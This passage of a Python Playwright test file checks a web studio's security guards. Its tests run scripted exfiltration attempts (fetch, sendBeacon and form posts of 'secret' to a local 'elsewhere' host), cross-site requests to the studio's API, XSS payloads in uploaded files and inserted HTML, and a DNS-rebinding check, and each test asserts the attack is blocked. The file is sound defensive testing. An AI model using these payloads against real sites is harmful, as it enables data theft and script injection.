    page.on("console", lambda message: page.said.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: page.said.append(f"error: {error}"))
    yield page
    page.close()


class Elsewhere(http.server.ThreadingHTTPServer):
    """Another site, which counts who comes."""

    def __init__(self):
        asked = self.asked = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<title>elsewhere</title><p id=p>elsewhere")

            do_POST = do_GET

            def log_message(self, *_):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self.server_port}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


@pytest.fixture
def elsewhere():
    with Elsewhere() as server:
        yield server
        server.shutdown()


def complaints(page) -> list[str]:
    """What a policy may have caused; the 3D view is sorry that there is no WebGPU."""
    said = [said for said in page.said if "BJS" not in said]
    return [one for one in said if one.startswith("error") or "olicy" in one]


def settled(page) -> None:
    page.wait_for_selector("h1")
    page.wait_for_load_state("networkidle")


@pytest.mark.parametrize("path", ["/en/compare", "/en/compare/", "/ja/compare?a=1", "/ja/train"])
def test_each_page_opens_without_a_complaint(served, page, path):
    page.goto(served.url + path)
    settled(page)
    assert page.locator("h1").inner_text() == ("Second" if "compare" in path else "First")
    assert complaints(page) == [] and [url for url, status in page.answered if status >= 400] == []


REACHING = """
(url) => {
  const add = (tag, values) => {
    const made = Object.assign(document.createElement(tag), values);
    document.body.append(made);
    return made;
  };
  const tries = [
    () => fetch(url + "/fetch", {mode: "no-cors"}).catch(() => 0),
    () => fetch(url + "/post", {mode: "no-cors", method: "POST", body: "secret"}).catch(() => 0),
    () => navigator.sendBeacon(url + "/beacon", "secret"),
    () => new EventSource(url + "/events"),
    () => new WebSocket(url.replace("http", "ws") + "/socket"),
    () => { new Image().src = url + "/image"; },
    () => add("script", {src: url + "/script"}),
    () => import(url + "/module").catch(() => 0),
    () => add("link", {rel: "stylesheet", href: url + "/style"}),
    () => add("link", {rel: "prefetch", href: url + "/prefetch"}),
    () => add("link", {rel: "icon", href: url + "/icon"}),
    () => add("link", {rel: "manifest", href: url + "/manifest"}),
    () => add("iframe", {src: url + "/frame"}),
    () => add("object", {data: url + "/object"}),
    () => add("embed", {src: url + "/embed"}),
    () => add("video", {src: url + "/video", autoplay: true}),
    () => add("audio", {src: url + "/audio", autoplay: true}),
    () => add("div", {style: `background: url(${url}/background); width: 9px; height: 9px`}),
    () => add("style", {textContent: `@import "${url}/import";
      @font-face {font-family: far; src: url(${url}/font)} body {font-family: far}`}),
    () => {
      add("iframe", {name: "hidden"});
      add("form", {action: url + "/form", method: "post", target: "hidden"}).submit();
    },
  ];
  for (const one of tries) try { one(); } catch {}
  return new Promise((done) => setTimeout(done, 1500));
}
"""


def test_a_page_reaches_nothing_but_the_studio(served, page, elsewhere):
    page.goto(f"{served.url}/en/train")
    settled(page)
    page.evaluate(REACHING, elsewhere.url)
    assert elsewhere.asked == []
    page.goto(elsewhere.url)
    page.evaluate(REACHING, elsewhere.url)
    assert len(set(elsewhere.asked)) > 15  # what the same script reaches from where it may


USING = """
async (url) => {
  const api = url + "/en/gradio_api";
  const quiet = {mode: "no-cors", credentials: "include"};
  const send = {...quiet, method: "POST", body: '{"data": []}'};
  for (const way of ["run/predict", "upload", "component_server"])
    await fetch(`${api}/${way}`, send).catch(() => 0);
  const read = ["/en/train", "/en/theme.css", "/en/gradio_api/app_id", "/en/gradio_api/heartbeat/abc"];
  for (const way of read) {
    await fetch(url + way, quiet).catch(() => 0);
    await fetch(url + way).catch(() => 0);
  }
  const json = {"Content-Type": "application/json"};
  await fetch(api + "/run/predict", {...send, mode: "cors", headers: json})
    .catch(() => 0);
  const add = (tag, values) =>
    document.body.append(Object.assign(document.createElement(tag), values));
  add("script", {src: url + "/en/gradio_api/app_id"});
  add("img", {src: url + "/favicon.ico"});
  add("iframe", {src: url + "/en/train"});
  add("iframe", {name: "hidden"});
  add("form", {action: api + "/run/predict", method: "post", target: "hidden"});
  document.forms[0].submit();
  await new Promise((done) => setTimeout(done, 1000));
}
"""


def test_another_site_can_use_nothing_of_the_studio(served, page, elsewhere):
    page.goto(elsewhere.url)
    page.evaluate(USING, served.url)
    answers = [status for url, status in page.answered if url.startswith(served.url)]
    assert len(answers) > 8 and set(answers) == {403}
    page.evaluate(USING, served.bare)  # what it could do without the guard
    assert 200 in [status for url, status in page.answered if url.startswith(served.bare)]
    page.evaluate("(url) => { location.href = url; }", f"{served.url}/en/train")  # but may link to it
    page.wait_for_selector("h1")


def test_a_name_that_was_made_to_lead_here_gets_nothing(served, page):
    answer = page.goto(f"http://rebind.example:{served.url_port}/en/train")
    assert answer.status == 421 and "rebind.example" in page.inner_text("body")


HOSTILE = {
    "a.html": "<script>window.top.hacked = 1; document.title = 'hacked'</script>",
    "a.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>top.hacked = 1</script></svg>",
    "a.js": "window.hacked = 1",
    "a.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'><script>top.hacked = 1</script></html>",
    "a.csv": "window.hacked = 1",
    "a.png": "window.hacked = 1",
}
RUNNING = """
async (url) => {
  for (const tag of ["script", "iframe", "embed", "object"]) {
    const made = document.createElement(tag);
    made[tag === "object" ? "data" : "src"] = url;
    document.body.append(made);
  }
  await import(url).catch(() => 0);
  try { new Worker(url); } catch {}
  await new Promise((done) => setTimeout(done, 500));
  return window.hacked;
}
"""


def test_nothing_in_an_uploaded_file_runs(served, client, page):
    for name, content in HOSTILE.items():
        url = f"{served.url}/en/gradio_api/file={uploaded(client, content.encode(), name)}"
        page.goto(f"{served.url}/en/compare")
        settled(page)
        assert page.evaluate(RUNNING, url) is None, name
        assert page.title() != "hacked", name
        if name not in ("a.csv", "a.png"):
            with page.expect_download():
                page.evaluate("(url) => { location.href = url; }", url)


INSERTING = """
async () => {
  const place = document.createElement("div");
  document.body.append(place);
  place.innerHTML = '<img src="x:" onerror="window.hacked = 1">'
    + '<a href="javascript:window.hacked=1">a</a>'
    + '<iframe srcdoc="&lt;script&gt;parent.hacked = 1&lt;/script&gt;"></iframe>';
  place.querySelector("a").click();
  const script = document.createElement("script");
  script.text = "window.hacked = 1";
  document.body.append(script);
  await new Promise((done) => setTimeout(done, 500));
  return window.hacked;
}
"""


def test_nothing_in_an_inserted_text_runs(served, page, elsewhere):
    page.goto(f"{served.url}/en/compare")
    settled(page)
    assert page.evaluate(INSERTING) is None
    page.goto(elsewhere.url)
    assert page.evaluate(INSERTING) == 1  # where there is no policy


def test_with_a_token_a_link_from_elsewhere_opens_the_studio(served, page, elsewhere):
    assert page.goto(f"{served.shared}/en/train").status == 401
    page.goto(elsewhere.url)
    page.evaluate("(url) => { location.href = url; }", f"{served.shared}/en/train?token=s3cret&a=1")
    page.wait_for_selector("h1")
    assert page.url == f"{served.shared}/en/train?a=1"
    page.get_by_label("text", exact=True).fill("four")
    page.wait_for_function("document.querySelector('#length :is(input, textarea)').value === '4'")


if __name__ == "__main__":
    serve(Path(sys.argv[1]))
